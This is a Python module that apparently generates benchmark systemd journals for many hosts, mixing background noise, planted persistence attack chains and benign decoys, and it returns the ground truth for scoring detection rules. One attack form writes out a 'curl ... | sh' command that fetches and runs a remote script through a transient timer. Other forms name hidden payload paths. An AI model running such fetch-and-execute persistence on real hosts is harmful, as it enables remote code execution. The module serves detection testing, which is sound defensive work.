"""Benchmark journals: many hosts, background noise sized to reach a number of entries, attack
chains and decoys spread over a day, with the ground truth of the chains."""

from . import attacks as A
from . import cases as C
from . import noise as N
from .model import NEWER, USEC
from .scenario import Scenario

ENTRIES_PER_EVENT = 2.2   # slightly below the measured mean, so the limit, not the day, ends the run

# Background mixes for noise_actor (weights per noise event).
#   "ssh-heavy": noise_actor's own default, an internet-facing fleet where sshd scanners and
#     pre-auth noise make about half of the journal (every sshd record is a record the
#     rules' anchors select).
#   "issue": the reference journal, where about 2.5% of the records are
#     security-relevant (sshd, sudo, logind, the service managers): the rest is an
#     application's stdout, firewall drops, mail, an exporter and time sync.
MIXES = {
    "ssh-heavy": None,
    "issue": {"scanner": 0.003, "preauth": 0.002, "ufw": 0.25, "app": 0.5, "postfix": 0.09,
              "exporter": 0.13, "timesyncd": 0.01, "journald": 0.003, "failed-user": 0.001},
}
# Mean entries per noise event of each mix (measured), so the entry limit, not the end of
# the day, ends the run.
ENTRIES_PER_MIX_EVENT = {"ssh-heavy": ENTRIES_PER_EVENT, "issue": 1.7}


def _attack(sc, h, k, t, rng):
    U = h.users
    ip = "203.0.113.%d" % rng.randint(2, 254)
    form = k % 7
    if form == 0:
        sc.spawn(A.system_timer_chain, t, sc, h, U["alice"], ip, "sys-upd-%d" % k,
                 "System update helper", ["/usr/local/bin/sysupd"], runs=3)
    elif form == 1:
        sc.spawn(A.system_timer_chain, t, sc, h, U["root"], ip, "db-sync-%d" % k, "DB sync",
                 ["/usr/local/sbin/dbsync"], method="password", root_login=True, runs=3,
                 form="root-login-timer")
    elif form == 2:
        sc.spawn(A.user_timer_chain, t, sc, h, U["bob"], ip, "agent-%d" % k, "Agent refresh",
                 ["/home/bob/.local/bin/agent"], linger=bool(k % 2), runs=4,
                 form="user-timer-linger" if k % 2 else "user-timer")
    elif form == 3:
        sc.spawn(A.transient_chain, t, sc, h, U["alice"], ip,
                 ["/bin/sh", "-c", "curl -fsSL http://198.51.100.7/%d.sh | sh" % k],
                 ["--on-active=60"], runs=1)
    elif form == 4:
        sc.spawn(A.transient_chain, t, sc, h, U["bob"], ip, ["/bin/sh", "-c", "~/.cache/.a%d" % k],
                 ["--on-calendar=*:0/10"], user_mode=True, runs=3, interval=600)
    elif form == 5:
        sc.spawn(A.remote_oneshot_chain, t, sc, h, U["deploy"], ip, "lr-%d" % k, "Log rotation",
                 ["/var/tmp/.lr/lr"])
    else:
        sc.spawn(A.system_timer_chain, t, sc, h, U["deploy"], ip, "cache-%d" % k, "Cache warmer",
                 ["/opt/cache/warm.sh"], install="cp", runs=3)


def _decoy(sc, h, k, t, rng):
    U = h.users
    kind = k % 4
    if kind == 0:
        sc.spawn(A.apt_install_chain, t, sc, h, U["admin"], "10.0.5.21", "certbot")
    elif kind == 1:
        sc.spawn(A.admin_restart_chain, t, sc, h, U["admin"], "10.0.5.21",
                 daemon_reload=bool(k % 2))
    elif kind == 2:
        sc.spawn(A.ansible_chain, t, sc, h, U["ansible"], "10.0.9.5", "node-backup",
                 "Nightly node backup")
    else:
        holder = {}

        def mallory(c, h=h):
            from . import flows as F
            s = yield from F.ssh_login(c, h, U["mallory"], "10.0.7.44")
            holder["sess"] = s
            yield c.sleep(1800)
            yield from F.ssh_logout(c, s)
        sc.spawn(mallory, t)
        sc.spawn(A.forged_chain, t + 60 * USEC, sc, h, U["mallory"], "10.0.7.44")


def generate(out, entries=1_000_000, hosts=50, attacks=40, decoys=100, seed=1, order="fast",
             hours=24, newer_every=5, mix="ssh-heavy"):
    sc = Scenario(seed=seed, start="2025-11-26T00:00:00Z", order=order)
    until = sc.start + hours * 3600 * USEC
    hs = []
    for i in range(hosts):
        prof = {"profile": NEWER} if newer_every and i % newer_every == newer_every - 1 else {}
        h = sc.add_host("host%02d" % i, users=C.team(), ip="192.0.2.%d" % (10 + i % 240),
                        php=i % 3 == 0, sysstat=i % 4 == 1, **prof)
        hs.append(h)
    scheduled_per_host = hours * (2.2 + 3)     # cron + timers, rough
    per_host = max(entries / hosts - scheduled_per_host, 10)
    rate = per_host / ENTRIES_PER_MIX_EVENT[mix] / (hours * 60)
    for h in hs:
        sc.spawn(N.noise_actor, sc.start, h, rate, until, MIXES[mix])
        sc.spawn(N.scheduled_actor, sc.start, h, until)
    rng = sc.rng
    span = until - sc.start - 3 * 3600 * USEC
    for k in range(attacks):
        _attack(sc, hs[rng.randrange(hosts)], k, sc.start + rng.randint(0, span), rng)
    for k in range(decoys):
        _decoy(sc, hs[rng.randrange(hosts)], k, sc.start + rng.randint(0, span), rng)
    n = sc.run(out, limit=entries)
    last = sc.last_written
    truth = [t for t in A.finalize_truth(sc.truth)
             if "timer_start" in t["evidence"] and t["evidence"]["timer_start"]["realtime"] <= last]
    return n, truth
